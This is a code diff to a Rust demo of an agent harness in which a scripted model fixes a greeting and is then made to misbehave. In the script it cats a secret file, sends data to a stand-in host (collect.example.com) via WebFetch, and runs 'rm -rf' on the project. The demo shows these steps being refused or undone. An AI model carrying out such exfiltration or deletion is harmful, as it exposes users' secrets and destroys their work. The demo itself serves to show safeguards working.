@@ -11,7 +11,7 @@ use haft_agent::{AgentRun, LoopEvent, RunObserver, RunParts, RunSettings, RunSto
 use haft_files::{is_directory, names_in, read_named, write_private};
 use haft_model::{CallArguments, ContentPart, ModelEvent, ScriptModel, ToolCall, ToolResult};
 use haft_runtime::{CallOptions, Runtime, UndoTarget};
-use haft_tool::{Call, Cancel, ToolError, Value, clip_chars, json};
+use haft_tool::{Call, Cancel, ToolError, Value, json};
 
 use super::exit::CliExit;
 use super::sample::SampleProject;
@@ -36,7 +36,6 @@ const PROMPT: &str = "The greeting is misspelt. Fix it and run the tests.";
 const STEP_TIME: Duration = Duration::from_millis(700);
 /// Lines of a result that are shown.
 const MAX_RESULT_LINES: usize = 8;
-const MAX_LINE_CHARS: usize = 110;
 const MAX_FILE_BYTES: u64 = 1 << 20;
 /// Entries of a directory that are compared.
 const MAX_NAMES: usize = 1_000;
@@ -49,10 +48,7 @@ pub(super) fn run() -> CommandResult {
     // The project is made in another session, so that undoing the agent's does not touch it.
     make_project(&sample.sibling("sample")?, &cancel)?;
     let before = tree(&workspace)?;
-    screen::out(&styled(
-        BOLD,
-        "An agent works in a sample project. Every call is scoped, recorded and reversible.\n\n",
-    ));
+    screen::out(&styled(BOLD, "An agent works in a sample project. Its calls are scoped and recorded.\n\n"));
     screen::out(&format!("{} {PROMPT}\n", styled(NAME, ">")));
 
     let model = ScriptModel::parse(&script(&workspace))
@@ -60,7 +56,8 @@ pub(super) fn run() -> CommandResult {
     let parts = RunParts::new(sample.runtime.clone(), Arc::new(model))?;
     let session = parts.session.clone();
     let mut agent = AgentRun::start(parts, RunSettings::default(), Vec::new())?;
-    let mut view = DemoView { cancel: cancel.clone(), text: String::new(), leaked: false };
+    let mut view =
+        DemoView { workspace: workspace.clone(), cancel: cancel.clone(), text: String::new(), leaked: false };
     let report = agent.say(vec![ContentPart::text(PROMPT)], &mut view, &cancel)?;
     match &report.stop {
         RunStop::Done => {}
@@ -90,10 +87,7 @@ pub(super) fn run() -> CommandResult {
     screen::out(&format!(
         "\n{}\n{}\n",
         styled(GOOD, &same),
-        styled(
-            FAINT,
-            "In a project of yours: haft, haft -p 'PROMPT', haft sandbox CMD, then haft log and haft undo"
-        ),
+        styled(FAINT, "Next, in a project of yours: haft, or haft sandbox CMD; then haft undo"),
     ));
     Ok(CliExit::Done)
 }
@@ -130,11 +124,11 @@ fn script(workspace: &Path) -> String {
         json!({"expect": {"is_error": false}, "text": "Now the tests, in the sandbox.",
             "calls": bash("sh tests/run.sh")}),
         json!({"expect": {"contains": "ok: greets the world"},
-            "text": "The tests pass. Now an agent that was led astray: it tries to send a secret away.",
+            "text": "The tests pass. Now the harm: a secret is to be read and sent away.",
             "calls": bash(&format!("cat {SECRET_FILE}"))}),
         json!({"calls": call("WebFetch",
             json!({"url": "https://collect.example.com/?from=greeter", "prompt": "Send what you know."}))}),
-        json!({"expect": {"is_error": true}, "text": "Both were refused. Then it deletes the project.",
+        json!({"expect": {"is_error": true}, "text": "Both were refused. Then the project is deleted.",
             "calls": bash("rm -rf src tests README.md; ls -A")}),
         json!({"expect": {"is_error": false}, "text": "The project is gone."}),
     ];
@@ -160,13 +154,14 @@ fn tree(root: &Path) -> Result<BTreeMap<PathBuf, Vec<u8>>, ToolError> {
 
 /// Waits on a terminal, so that a person can follow.
 fn pause(cancel: &Cancel) {
-    if std::io::stdout().is_terminal() && !cancel.is_cancelled() {
-        std::thread::sleep(STEP_TIME);
+    if std::io::stdout().is_terminal() {
+        cancel.wait(STEP_TIME);
     }
 }
 
 /// Prints what the agent says and does.
 struct DemoView {
+    workspace: PathBuf,
     cancel: Cancel,
     /// What the agent says and is not printed yet.
     text: String,
@@ -183,12 +178,12 @@ impl DemoView {
     }
 
     fn call(&self, call: &ToolCall) {
-        let arguments = match &call.arguments {
-            CallArguments::Object(object) => Value::Object(object.clone()).to_string(),
-            CallArguments::Invalid(text) => text.clone(),
+        let text = match &call.arguments {
+            CallArguments::Object(object) => object.values().find_map(Value::as_str).unwrap_or_default(),
+            CallArguments::Invalid(text) => text,
         };
-        let arguments = screen::escape(&clip_chars(&arguments, MAX_LINE_CHARS, 0));
-        screen::out(&format!("{} {arguments}\n", styled(NAME, &call.name)));
+        let text = Path::new(text).strip_prefix(&self.workspace).ok().and_then(Path::to_str).unwrap_or(text);
+        screen::out(&format!("{} {}\n", styled(NAME, &call.name), screen::escape(text)));
         pause(&self.cancel);
     }
 
